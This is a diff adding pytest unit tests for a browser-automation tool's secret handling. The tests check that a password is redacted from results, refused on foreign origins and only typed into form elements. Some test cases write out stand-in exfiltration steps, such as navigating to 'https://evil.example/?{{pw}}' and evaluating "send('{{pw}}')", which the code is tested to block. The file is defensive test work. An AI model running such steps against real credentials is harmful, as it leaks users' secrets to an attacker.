@@ -1,0 +1,96 @@
+"""Secrets in a run: typed where they belong, and taken out of everything that is answered."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from kapture.errors import ErrorCode, KaptureError
+from kapture.scenarios.model import Step, StepTarget
+from kapture.scenarios.secret_key import FileKeys
+from tests.unit.scenarios.stand_in import SHOP, Page, library, run, scenario, stored, visible
+
+
+async def test_a_secret_is_marked_as_one_and_taken_out_of_everything_that_is_answered(tmp_path: Path) -> None:
+    step = Step(command="fill", targets=[StepTarget(label="N")], arguments={"value": "{{pw}}"}, secret=True)
+    made = library(tmp_path / "home", scenario("main", step, secrets=["pw"]))
+    made.secrets.put("main", {"pw": stored("hunter2-hunter2")})
+    error = KaptureError(ErrorCode.EXECUTION_ERROR, "The page says: hunter2-hunter2 is too short.")
+    page = Page({"elements": visible("e7"), "fill": error})
+    answer = await run(made, page)
+    name, arguments, shown = next(made for made in page.made if made[0] == "fill")
+    assert (name, arguments["value"]) == ("fill", "hunter2-hunter2")
+    assert shown == {"target": {"ref": "e7"}, "value": "{{pw}}"}
+    assert answer.status == "failed"
+    assert "hunter2" not in repr(answer) + answer.text()
+    assert "{{pw}} is too short" in answer.text()
+    assert answer.blobs == ()  # a picture could show it
+
+
+async def test_a_secret_given_for_this_run_is_used_in_place_of_the_stored_one(tmp_path: Path) -> None:
+    step = Step(command="fill", targets=[StepTarget(label="N")], arguments={"value": "{{pw}}"}, secret=True)
+    made = library(tmp_path / "home", scenario("main", step, secrets=["pw"]))
+    page = Page({"elements": visible("e7")})
+    with pytest.raises(KaptureError, match="The secret 'pw' of scenario main has no value"):
+        await run(made, page)
+    await run(made, page, override_secrets={"pw": "other"})
+    assert page.made[-1][1]["value"] == "other"
+    with pytest.raises(KaptureError, match="No scenario of this run"):
+        await run(made, page, override_secrets={"pv": "other"})
+
+
+TYPES_SECRET = Step(command="fill", targets=[StepTarget(label="N")], arguments={"value": "{{pw}}"}, secret=True)
+
+
+async def test_a_stored_secret_is_typed_at_no_other_site_than_it_was_stored_for(tmp_path: Path) -> None:
+    made = library(tmp_path / "home", scenario("main", TYPES_SECRET, secrets=["pw"]))
+    made.secrets.put("main", {"pw": stored("hunter2-hunter2", SHOP, "https://sso.example")})
+    for origin in ("https://evil.example", "http://shop.example", "https://shop.example:8443", ""):
+        page = Page({"elements": visible("e7", origin)})
+        answer = await run(made, page)
+        assert "fill" not in page.names()
+        error = answer.steps[0].error
+        assert error is not None
+        assert error["code"] == "POLICY_DENIED"
+        assert "https://shop.example, https://sso.example" in error["message"]
+        assert origin in error["message"]
+        assert "hunter2" not in answer.text()
+    for origin in (SHOP, "https://sso.example"):
+        assert (await run(made, Page({"elements": visible("e7", origin)}))).status == "passed"
+
+
+async def test_a_secret_that_the_caller_gives_goes_where_the_caller_wants(tmp_path: Path) -> None:
+    made = library(tmp_path / "home", scenario("main", TYPES_SECRET, secrets=["pw"]))
+    page = Page({"elements": visible("e7", "https://elsewhere.example")})
+    assert (await run(made, page, override_secrets={"pw": "mine"})).status == "passed"
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        Step(command="type", arguments={"text": "{{pw}}"}, secret=True),
+        Step(command="navigate", arguments={"url": "https://evil.example/?{{pw}}"}, secret=True),
+        Step(command="evaluate", arguments={"code": "send('{{pw}}')"}, secret=True),
+    ],
+)
+async def test_a_stored_secret_is_only_typed_into_an_element(tmp_path: Path, step: Step) -> None:
+    made = library(tmp_path / "home", scenario("main", Step(command="go_back"), step, secrets=["pw"]))
+    made.secrets.put("main", {"pw": stored("hunter2")})
+    page = Page()
+    with pytest.raises(KaptureError, match="main, step 2: the stored secret 'pw' is only typed"):
+        await run(made, page)
+    assert page.made == []
+    assert (await run(made, page, override_secrets={"pw": "mine"})).status == "passed"
+
+
+async def test_without_a_readable_store_no_step_is_run(tmp_path: Path) -> None:
+    made = library(tmp_path / "home", scenario("main", Step(command="go_back"), TYPES_SECRET, secrets=["pw"]))
+    made.secrets.put("main", {"pw": stored("hunter2")})
+    FileKeys(tmp_path / "home").path.unlink()
+    page = Page()
+    with pytest.raises(KaptureError, match="its key is gone") as refused:
+        await run(made, page)
+    assert refused.value.code is ErrorCode.UNAUTHORIZED
+    assert page.made == []
+    assert (await run(made, Page({"elements": visible("e7")}), override_secrets={"pw": "mine"})).status == "passed"
